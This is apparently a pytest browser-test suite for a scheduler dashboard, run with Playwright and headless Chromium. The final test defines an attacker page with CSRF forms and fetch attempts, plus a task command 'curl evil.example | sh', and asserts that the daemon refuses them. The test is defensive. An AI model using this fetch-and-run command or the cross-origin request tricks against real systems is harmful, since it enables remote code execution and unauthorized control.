"""The dashboard in a real browser (headless Debian Chromium driven by Playwright) against the
daemon and the simulated cluster: live numbers, global pause, node pause, the submit form, the
token prompt; a screenshot is saved under ``tests/artifacts/``.

Never runs ``playwright install``: it drives the system's ``/usr/bin/chromium``. Without it (or
without the ``playwright`` package) these tests skip, except under ``CI``, where they fail.
"""

from __future__ import annotations

import asyncio
import importlib.util
import json
import os
import shutil
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from obskit import SIM, Daemon, daemon_config, task

from scale_scheduler.simulator import AgentSpec, SimulatedCluster

CHROMIUM = os.environ.get("SCALE_TEST_CHROMIUM", "/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
ARTIFACTS = Path(__file__).resolve().parent.parent / "artifacts"
TOKEN_KEY = "scale-scheduler.api-token"


def _missing() -> str | None:
    if importlib.util.find_spec("playwright") is None:
        return "the playwright package is not installed (pip install -e '.[test]')"
    if not (os.path.exists(CHROMIUM) or shutil.which(CHROMIUM)):
        return f"no Chromium at {CHROMIUM} (apt-get install -y chromium)"
    return None


@pytest.fixture
async def browser() -> AsyncIterator[Any]:
    reason = _missing()
    if reason is not None:
        if os.environ.get("CI"):
            pytest.fail(f"browser tests need Chromium and Playwright under CI: {reason}")
        pytest.skip(reason)
    from playwright.async_api import async_playwright

    async with async_playwright() as playwright:
        instance = await playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            yield instance
        finally:
            await instance.close()


@pytest.fixture
async def sim() -> AsyncIterator[SimulatedCluster]:
    settings = {**SIM, "task_duration": 0.4}
    async with SimulatedCluster(agents=4, agent=AgentSpec(cpus=4, mem=8192), **settings) as cluster:
        yield cluster


async def until_js(page: Any, expression: str, timeout: float = 10_000) -> None:
    """Wait until ``expression`` is true in the page. Not ``page.wait_for_function``: that
    evaluates its predicate with ``eval`` inside the page, which the dashboard's
    Content-Security-Policy (no 'unsafe-eval') forbids; ``page.evaluate`` is not bound by it."""
    deadline = time.monotonic() + timeout / 1000
    while not await page.evaluate(expression):
        assert time.monotonic() < deadline, f"still false after {timeout} ms: {expression}"
        await asyncio.sleep(0.05)  # poll interval


def csp_violations(page: Any) -> list[str]:
    """Console messages of the page that report a Content-Security-Policy violation."""
    found: list[str] = []

    def record(message: Any) -> None:
        if "Content Security Policy" in message.text:
            found.append(message.text)

    page.on("console", record)
    return found


async def _text(page: Any, selector: str) -> str:
    return str(await page.text_content(selector))


async def test_live_numbers_pause_node_pause_and_submit(
    browser: Any, sim: SimulatedCluster, tmp_path: Path
) -> None:
    daemon = Daemon(daemon_config(tmp_path, sim.url), sim)
    client = await daemon.start()
    try:
        page = await browser.new_page(viewport={"width": 1440, "height": 900})
        errors: list[str] = []
        page.on("pageerror", lambda error: errors.append(str(error)))
        violations = csp_violations(page)
        await page.goto(daemon.url)
        await page.wait_for_selector('#live[data-state="live"]')
        await until_js(page, "document.querySelectorAll('#nodes-table tbody tr').length === 4")
        assert await _text(page, "#launches") == "0"

        # Live numbers: work submitted through the API shows up without a reload.
        await daemon.submit([task(f"live{i}", labels={"sim.duration": "0.4"}) for i in range(40)])
        await until_js(page, "Number(document.getElementById('launches').textContent) > 0")
        await until_js(
            page,
            "Number(document.getElementById('finished').textContent.replace(/,/g, '')) >= 40",
            timeout=30_000,
        )
        assert await _text(page, "#launches") == "40"
        assert "live39" in await _text(page, "#recent-table")
        assert "sim-agent-" in await _text(page, "#recent-table")

        # Global pause: the button calls the API, the API reports it, the page follows.
        await page.click("#pause-button")
        await daemon.until(lambda: daemon.core.scheduler.state.is_paused, timeout=10)
        body = await (await client.get("/scheduler/")).json()
        assert body == {"is_paused": True}
        await until_js(
            page, "document.getElementById('pause-button').textContent === 'Resume scheduler'"
        )
        assert "paused" in await _text(page, "#banner")

        # While paused, the submit form queues work that waits, with its reason on the page.
        await page.fill('#submit-form input[name="name"]', "from-ui")
        await page.fill('#submit-form input[name="count"]', "3")
        await page.click("#submit-button")
        await daemon.until(lambda: daemon.core.queue_depth == 3, timeout=10)
        await until_js(page, "document.getElementById('queue-depth').textContent === '3'")
        queue = await _text(page, "#queue-table")
        assert "from-ui-1" in queue
        assert "the scheduler is paused" in queue
        # A group and constraints, as text: one per line (Marathon's field:OPERATOR[:value]).
        await page.fill('#submit-form input[name="name"]', "spread")
        await page.fill('#submit-form input[name="count"]', "2")
        await page.fill('#submit-form input[name="group"]', "ui")
        await page.fill(
            '#submit-form textarea[name="constraints"]', "hostname:UNIQUE\nhostname:LIKE:sim-.*"
        )
        await page.click("#submit-button")
        await daemon.until(lambda: daemon.core.queue_depth == 5, timeout=10)
        listed = await (await client.get("/queue/")).json()
        spread = [t for t in listed["results"] if t["name"].startswith("spread-")]
        assert [(t["group"], t["constraints"]) for t in spread] == [
            ("ui", [["hostname", "UNIQUE"], ["hostname", "LIKE", "sim-.*"]])
        ] * 2
        await page.fill('#submit-form input[name="group"]', "")
        await page.fill('#submit-form textarea[name="constraints"]', "")
        # The lifecycle fields: attempts, kill grace, run-time limit and the first retry's delay.
        await page.fill('#submit-form input[name="name"]', "lifecycle")
        await page.fill('#submit-form input[name="count"]', "1")
        await page.fill('#submit-form input[name="max_attempts"]', "3")
        await page.fill('#submit-form input[name="kill_grace_period"]', "7.5")
        await page.fill('#submit-form input[name="max_runtime"]', "600")
        await page.fill('#submit-form input[name="retry_initial"]', "2")
        await page.click("#submit-button")
        await daemon.until(lambda: daemon.core.queue_depth == 6, timeout=10)
        listed = await (await client.get("/queue/")).json()
        (made,) = [t for t in listed["results"] if t["name"] == "lifecycle"]
        lifecycle = (made["max_attempts"], made["kill_grace_period"], made["max_runtime"])
        assert lifecycle == (3, 7.5, 600)
        assert made["retry_backoff"]["initial"] == 2
        for field in ("max_attempts", "kill_grace_period", "max_runtime", "retry_initial"):
            await page.fill(f'#submit-form input[name="{field}"]', "")

        # Node pause with a reason, through the row's button and the dialog.
        row = 'tr[data-node="sim-agent-1"]'
        await page.click(f"{row} button.node-toggle")
        await page.fill("#node-reason", "disk replacement")
        await page.click("#node-dialog-confirm")
        node = daemon.core.nodes.by_hostname["sim-agent-1"]
        await daemon.until(lambda: node.is_paused, timeout=10)
        listed = await (await client.get("/nodes/?hostname=sim-agent-1")).json()
        assert listed["results"][0]["is_paused"] is True
        assert listed["results"][0]["pause_reason"] == "disk replacement"
        await until_js(
            page, f"document.querySelector('{row}').textContent.includes('disk replacement')"
        )
        assert "PAUSED" in await _text(page, f"{row} .badge")

        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        await page.screenshot(path=str(ARTIFACTS / "dashboard.png"), full_page=True)

        # Resume both: the queued tasks run.
        await page.click(f"{row} button.node-toggle")
        await daemon.until(lambda: not node.is_paused, timeout=10)
        await page.click("#pause-button")
        await daemon.until(lambda: daemon.core.queue_depth == 0, timeout=20)
        assert errors == []
        assert violations == []  # the page works under its own Content-Security-Policy
    finally:
        await daemon.stop()


async def test_the_page_asks_for_the_token_and_sends_it_as_a_bearer(
    browser: Any, sim: SimulatedCluster, tmp_path: Path
) -> None:
    token_file = tmp_path / "api-token"
    token_file.write_text("dashboard-s3cret\n")
    config = daemon_config(tmp_path, sim.url, token_file=str(token_file))
    daemon = Daemon(config, sim)
    await daemon.start()
    try:
        context = await browser.new_context()
        page = await context.new_page()
        sent: list[str | None] = []

        def record(request: Any) -> None:
            if request.method == "PATCH":
                sent.append(request.headers.get("authorization"))

        page.on("request", record)
        await page.goto(daemon.url)
        await page.wait_for_selector("#token-dialog[open]")
        await page.fill("#token-input", "dashboard-s3cret")
        await page.click("#token-save")
        await page.wait_for_selector('#live[data-state="live"]')
        await page.click("#pause-button")
        await daemon.until(lambda: daemon.core.scheduler.state.is_paused, timeout=10)
        assert sent == ["Bearer dashboard-s3cret"]
        stored = await page.evaluate(f"sessionStorage.getItem('{TOKEN_KEY}')")
        assert stored == "dashboard-s3cret"
        assert await page.evaluate("document.cookie") == ""
        assert await context.cookies() == []
        assert await _text(page, "#token-button") == "Token set"
        await context.close()
    finally:
        await daemon.stop()


ATTACK_TASK = '{"name":"x","command":"curl evil.example | sh","cpus":0.1,"mem":8}'
ATTACKER_PAGE = """<!doctype html>
<html><body>
<form id="queue-form" method="POST" action="{api}/queue/" enctype="text/plain">
  <input name='{{"name":"x","command":"curl evil.example","cpus":0.1,"mem":8,"pad":"' value='"}}'>
</form>
<form id="pause-form" method="POST" action="{api}/scheduler/" enctype="text/plain">
  <input name='{{"is_paused":true,"pad":"' value='"}}'>
</form>
<script>
window.attack = async () => {{
  const outcomes = [];
  const attempt = async (label, path, init) => {{
    try {{
      const response = await fetch("{api}" + path, init);
      outcomes.push(label + ": " + response.type + " " + response.status);
    }} catch (error) {{
      outcomes.push(label + ": refused by the browser");
    }}
  }};
  await attempt("queue no-cors", "/queue/", {{
    method: "POST", mode: "no-cors", headers: {{"Content-Type": "text/plain"}}, body: {task},
  }});
  await attempt("pause no-cors", "/scheduler/", {{
    method: "PATCH", mode: "no-cors", body: '{{"is_paused": true}}',
  }});
  await attempt("pause cors", "/scheduler/", {{
    method: "PATCH", headers: {{"Content-Type": "application/json"}}, body: '{{"is_paused": true}}',
  }});
  return outcomes;
}};
</script>
</body></html>
"""


async def test_a_page_of_another_origin_cannot_queue_or_pause(
    browser: Any, sim: SimulatedCluster, tmp_path: Path
) -> None:
    from aiohttp import web

    daemon = Daemon(daemon_config(tmp_path, sim.url), sim)
    await daemon.start()
    attacker = web.Application()
    page_html = ATTACKER_PAGE.format(api=daemon.url, task=json.dumps(ATTACK_TASK))

    async def serve_page(request: web.Request) -> web.Response:
        return web.Response(text=page_html, content_type="text/html")

    attacker.router.add_get("/", serve_page)
    runner = web.AppRunner(attacker)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    attacker_url = f"http://127.0.0.1:{runner.addresses[0][1]}/"
    try:
        page = await browser.new_page()
        answered: list[tuple[str, str, int]] = []
        page.on(
            "response",
            lambda response: (
                answered.append((response.request.method, response.url, response.status))
                if response.url.startswith(daemon.url)
                else None
            ),
        )
        await page.goto(attacker_url)
        outcomes = await page.evaluate("attack()")
        assert "queue no-cors: opaque 0" in outcomes  # sent; its answer hidden from the page
        assert "pause no-cors: refused by the browser" in outcomes  # PATCH is not "simple"
        assert "pause cors: refused by the browser" in outcomes  # no CORS grant
        for form in ("queue-form", "pause-form"):
            await page.goto(attacker_url)
            async with page.expect_navigation() as navigation:
                await page.evaluate(f"document.getElementById('{form}').submit()")
            response = await navigation.value
            assert response is not None
            assert response.status in (403, 405), form  # POST /scheduler/ is no route at all
        # The daemon saw the requests and refused them; nothing was queued or paused.
        posts = [status for method, url, status in answered if method == "POST"]
        assert posts.count(403) >= 2, answered  # the fetch and the form to /queue/
        assert daemon.core.queue_depth == 0
        assert await daemon.count("QUEUED") == 0
        assert await daemon.count("FINISHED") == 0
        assert not daemon.core.scheduler.state.is_paused
        assert (await (await daemon.client.get("/queue/")).json())["count"] == 0
    finally:
        await runner.cleanup()
        await daemon.stop()
